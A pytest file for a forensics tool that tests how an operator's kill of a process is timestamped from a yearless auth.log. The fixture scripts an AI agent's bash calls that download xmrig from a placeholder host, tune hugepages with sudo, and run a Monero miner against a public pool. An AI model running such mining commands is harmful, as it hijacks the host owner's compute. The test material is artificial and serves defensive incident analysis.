"""A log that prints no year: what an operator did in it is placed by a vote, by the case file or by assumption."""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from forensics.analysis import analyze
from forensics.case import Case
from forensics.demo.identities import monero_address
from forensics.document import lint
from forensics.intake import ingest

pytestmark = pytest.mark.slow

START = datetime(2026, 4, 1, 10, 0, 0, tzinfo=UTC)
WALLET = monero_address(random.Random(7))
MINER = f"nohup /tmp/x/xmrig -o pool.supportxmr.com:3333 -u {WALLET} -p x > /tmp/x.log 2>&1 &"
CALLS = (
    (5, "sudo apt-get update", "Done"),
    (12, "sudo apt-get install -y hwloc", "Done"),
    (20, "curl -s https://api.example.com/v1/chat", '{"error":{"type":"insufficient_quota"}}'),
    (31, "sudo sysctl -w vm.nr_hugepages=128", "vm.nr_hugepages = 128"),
    (44, "curl -L -o /tmp/x.tgz https://example.org/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf /tmp/x.tgz", ""),
    (60, MINER, "[1] 4711"),
    (90, "tail -1 /tmp/x.log", "cpu      accepted (1/0) diff 120001 (61 ms)"),
)
KILLED = 300  # seconds after the start


def transcript() -> bytes:
    steps = [
        {
            "step_id": number,
            "timestamp": (START + timedelta(seconds=at)).isoformat(),
            "source": "agent",
            "message": "",
            "tool_calls": [{"tool_call_id": f"c{at}", "function_name": "bash", "arguments": {"command": command}}],
            "observation": {"results": [{"source_call_id": f"c{at}", "content": output}]},
        }
        for number, (at, command, output) in enumerate(CALLS, 1)
    ]
    agent = {"name": "teller", "version": "1"}
    return json.dumps({"schema_version": "ATIF-v1.7", "session_id": "told", "agent": agent, "steps": steps}).encode()


def auth_log(*, agents: bool) -> bytes:
    """Write what the host logged, two hours ahead of UTC; with the sudo lines of the agent's calls or without."""
    found = [(KILLED - 20, "sshd[900]: Accepted publickey for ops from 192.0.2.9 port 50122 ssh2: ED25519 SHA256:x")]
    found.append((KILLED, "sudo:      ops : TTY=pts/1 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/kill -9 4711"))
    for at, command, _ in CALLS if agents else ():
        if command.startswith("sudo "):
            run = f"TTY=unknown ; PWD=/work ; USER=root ; COMMAND=/usr/bin/{command.removeprefix('sudo ')}"
            found.append((at, f"sudo:    agent : {run}"))
    return "".join(
        f"{START + timedelta(hours=2, seconds=at):%b %e %H:%M:%S} gpu-07 {text}\n" for at, text in sorted(found)
    ).encode()


def killed(folder: Path, *, agents: bool = False, settings: str = "") -> dict[str, Any]:
    """Return how the operator's kill is cited."""
    evidence = folder / "evidence"
    evidence.mkdir()
    (evidence / "run.json").write_bytes(transcript())
    (evidence / "auth.log").write_bytes(auth_log(agents=agents))
    case = Case.create(folder / "case", settings.encode())
    ingest(case, [evidence])
    document = analyze(Case.open(folder / "case"))
    assert lint(document) == []
    [incident] = document["incidents"]
    [contained] = [stage for stage in incident["stages"] if stage["stage"] == "containment"]
    [cited] = contained["evidence"]
    return cited


def place(cited: dict[str, Any]) -> tuple[Any, ...]:
    """Return basis, earliest, best and latest, these as seconds from the moment of the kill."""
    moment = START + timedelta(seconds=KILLED)
    times = (datetime.fromisoformat(cited[name]) for name in ("ts_earliest", "ts", "ts_latest"))
    return (cited["ts_basis"], *((time - moment).total_seconds() for time in times))


def test_a_vote_tells_year_and_zone(tmp_path: Path) -> None:
    assert place(killed(tmp_path, agents=True)) == ("clock_corrected", -1, 0, 2)


def test_without_a_vote_the_year_is_assumed_and_the_zone_open(tmp_path: Path) -> None:
    basis, earliest, best, latest = place(killed(tmp_path))
    hour = 3600
    assert (basis, earliest, best, latest) == ("assumed_date", -12 * hour, 2 * hour, 14 * hour + 1)


def test_a_zone_that_the_case_file_tells_holds_for_the_assumed_year(tmp_path: Path) -> None:
    settings = '[[scope]]\nmatch = "auth.log"\nzone = "Europe/Berlin"\n'
    assert place(killed(tmp_path, settings=settings)) == ("assumed_date", 0, 0, 1)
